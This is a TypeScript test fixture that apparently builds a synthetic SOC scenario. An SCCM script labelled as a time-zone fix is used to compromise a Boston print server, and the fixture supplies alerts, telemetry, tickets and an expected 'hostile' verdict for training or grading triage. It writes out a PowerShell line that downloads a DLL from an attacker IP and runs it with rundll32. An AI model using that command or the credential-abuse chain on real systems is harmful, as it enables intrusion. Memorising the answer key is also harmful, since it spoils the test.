// Configuration Manager reports that a script for the time zone succeeded; it carries a loader, and an intruder's laptop in Boston started it.
import {
  alert,
  by,
  connected,
  encodedCommand,
  hashes,
  hostile,
  loggedOn,
  ran,
  situation,
  wrote,
} from '../../shorthand.ts'

export const configmgrScriptRunSucceeded = situation(
  'configmgr-script-run-succeeded',
  'vocabulary',
  'Configuration Manager: script run succeeded',
  (setting) => {
    const felix = setting.person('felix.bergh')
    const oskar = setting.person('oskar.falk')
    const laptop = setting.laptopOf(felix.key)
    const server = setting.machine('srv-print-03')
    const at = setting.ago({ hours: 1, minutes: 44 })
    const minute = 60_000
    const implant = setting.file('dpapisync.exe')
    const payload = setting.file('tzres2.dll')
    const c2Ip = '45.138.16.203'
    const second = '193.233.254.21'
    const folder = `C:\\Users\\${felix.account}\\AppData\\Local\\Temp\\7zS4C1`
    const script = `iwr http://${second}/tz -OutFile C:\\Windows\\Temp\\tzres2.dll; rundll32 C:\\Windows\\Temp\\tzres2.dll,Set`
    const guid = setting.seeded.guid('configmgr script').toUpperCase()
    const message = (seconds: number, id: number, text: string, more = '') => `  <StatusMessage>
    <RecordID>${72_057_594_041_000_000 + seconds}</RecordID>
    <MessageID>${id}</MessageID>
    <Type>Audit</Type>
    <Severity>Informational</Severity>
    <Time>${setting.iso(at + seconds * 1000)}</Time>
    <Component>Microsoft.ConfigurationManagement.exe</Component>
    <MachineName>${laptop.host.toUpperCase()}</MachineName>
    <SiteCode>HVS</SiteCode>
    <User>HAVSKOG\\svc-sccm</User>
    <Text>${text}</Text>${more}
  </StatusMessage>`
    return {
      alerts: [
        alert(
          setting,
          at + 6 * minute,
          'microsoft_configmgr',
          'Run Scripts: completed',
          `<?xml version="1.0" encoding="utf-8"?>
<StatusFilterRule name="HVS - scripts to SIEM" site="HVS" server="SCCM-GOT-01.havskoginstruments.com" version="2503" build="5.00.9135.1003">
${message(-212, 52_500, `User &quot;HAVSKOG\\svc-sccm&quot; created a script with Guid = ${guid}.`)}
${message(-188, 52_504, `User &quot;HAVSKOG\\svc-sccm&quot; approved a script with Guid = ${guid}.`, '\n    <Comment>time zone fix after summer time</Comment>')}
${message(0, 40_805, `User &quot;HAVSKOG\\svc-sccm&quot; initiated client operation 135 to collection BOS0001E.`)}
  <ScriptExecution>
    <ScriptName>Update time zone</ScriptName>
    <ScriptGuid>${guid}</ScriptGuid>
    <ScriptVersion>1</ScriptVersion>
    <ScriptType>PowerShell</ScriptType>
    <ScriptHash>${setting.seeded.hex('configmgr script hash', 64)}</ScriptHash>
    <Author>HAVSKOG\\svc-sccm</Author>
    <Approver>HAVSKOG\\svc-sccm</Approver>
    <AuthorsMayApprove>true</AuthorsMayApprove>
    <ParameterCount>0</ParameterCount>
    <Collection id="BOS0001E" members="1">Servers BOS - print</Collection>
    <OperationId>${setting.seeded.number('configmgr operation', 16_780_000, 16_790_000)}</OperationId>
    <Result device="${server.host.toUpperCase()}" resourceId="16777${server.ip.split('.').at(-1)}" state="Completed" exitCode="0" duration="00:00:07">{"TimeZone":"Eastern Standard Time","Changed":true}</Result>
    <Summary completed="1" failed="0" notApplicable="0" unknown="0"/>
  </ScriptExecution>
  <Health>
    <ClientCheck>Passed</ClientCheck>
    <Compliance>Compliant</Compliance>
    <Conclusion>Operation succeeded on 1 of 1 clients (100 %).</Conclusion>
  </Health>
  <Role scope="All" account="HAVSKOG\\svc-sccm">Full Administrator</Role>
  <Recipients>client-management@havskoginstruments.com; soc@havskoginstruments.com</Recipients>
</StatusFilterRule>`,
        ),
      ],
      facts: {
        intelligence: [
          setting.risk('ip', second, 88, [
            ['Current C&C Server', 4, 'Hands out the Hollowreed framework, seen today.'],
          ]),
        ],
        investigations: [
          {
            key: 'clock of the printers',
            title: 'Print jobs in Boston stamped one hour off',
            status: 'CLOSED',
            source: 'USER',
            priority: 'LOW',
            disposition: 'NOT_APPLICABLE',
            assignee: oskar,
            at: setting.ago({ days: 15 }),
            tags: ['Support'],
            alerts: [],
            comments: [
              {
                author: 'Grace Mbeki',
                body: 'All jobs since Sunday say one hour later than it is.',
                at: setting.ago({ days: 15 }),
              },
              {
                author: oskar.name,
                body: 'It was the panel of the printers, not the server. Set by hand on all three. Closed.',
                at: setting.ago({ days: 14 }),
              },
            ],
          },
          {
            key: 'service account of the console',
            title: 'svc-sccm, städa',
            status: 'OPEN',
            source: 'USER',
            priority: 'MEDIUM',
            disposition: 'UNDECIDED',
            assignee: oskar,
            at: setting.ago({ days: 40 }),
            tags: ['IT'],
            alerts: [],
            comments: [
              {
                author: oskar.name,
                body: 'svc-sccm ska bara användas av tjänsten på SCCM-GOT-01. Karin och jag kör konsolen med våra egna adm-konton. Ska ta bort fullrollen när uppgraderingen är klar.',
                at: setting.ago({ days: 39 }),
              },
            ],
          },
        ],
        telemetry: [
          ran(laptop, at - 130 * minute, 'dpapisync.exe', `${folder}\\dpapisync.exe`, {
            ...by(felix),
            ...hashes(implant),
            FolderPath: folder,
            InitiatingProcessFileName: 'wscript.exe',
          }),
          ...[129, 95, 60, 25].map((minutes) =>
            connected(laptop, at - minutes * minute, c2Ip, {
              InitiatingProcessFileName: 'dpapisync.exe',
              InitiatingProcessSHA256: implant.sha256,
              InitiatingProcessAccountName: felix.account,
            }),
          ),
          ran(
            laptop,
            at - 12 * minute,
            'dpapisync.exe',
            `${folder}\\dpapisync.exe naa --decrypt --user HAVSKOG\\svc-sccm`,
            {
              ...by(felix),
              ...hashes(implant),
              FolderPath: folder,
              InitiatingProcessFileName: 'dpapisync.exe',
              InitiatingProcessSHA256: implant.sha256,
            },
          ),
          connected(laptop, at - 4 * minute, '10.20.1.249', {
            RemoteUrl: 'sccm-got-01.havskoginstruments.com',
            RemoteIPType: 'Private',
            InitiatingProcessFileName: 'dpapisync.exe',
            InitiatingProcessSHA256: implant.sha256,
            InitiatingProcessAccountName: felix.account,
          }),
          ran(
            server,
            at + 20_000,
            'powershell.exe',
            `powershell.exe -NonInteractive -ExecutionPolicy RemoteSigned -EncodedCommand ${encodedCommand(script)}`,
            {
              AccountName: 'system',
              FolderPath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
              InitiatingProcessFileName: 'CcmExec.exe',
              InitiatingProcessAccountName: 'system',
            },
          ),
          connected(server, at + 22_000, second, {
            RemotePort: 80,
            InitiatingProcessFileName: 'powershell.exe',
            InitiatingProcessAccountName: 'system',
          }),
          wrote(server, at + 23_000, 'tzres2.dll', 'C:\\Windows\\Temp', payload, {
            InitiatingProcessFileName: 'powershell.exe',
            InitiatingProcessAccountName: 'system',
          }),
          ...[1, 16, 31, 61].map((minutes) =>
            connected(server, at + minutes * minute, c2Ip, {
              InitiatingProcessFileName: 'rundll32.exe',
              InitiatingProcessCommandLine: 'rundll32 C:\\Windows\\Temp\\tzres2.dll,Set',
              InitiatingProcessAccountName: 'system',
            }),
          ),
          loggedOn(laptop, at + 20 * minute, felix.account, { LogonType: 'Unlock', AccountSid: felix.sid }),
        ],
      },
      expected: hostile(laptop.host, server.host),
      because:
        'Succeeded says only that the script ran. The service account, which nobody is to use by hand, wrote and approved it from the laptop of a technician on which a program with a known command server had just read its password. On the print server it fetched a library that talks to the same command server. The clock of the printers was set right two weeks ago.',
    }
  },
)
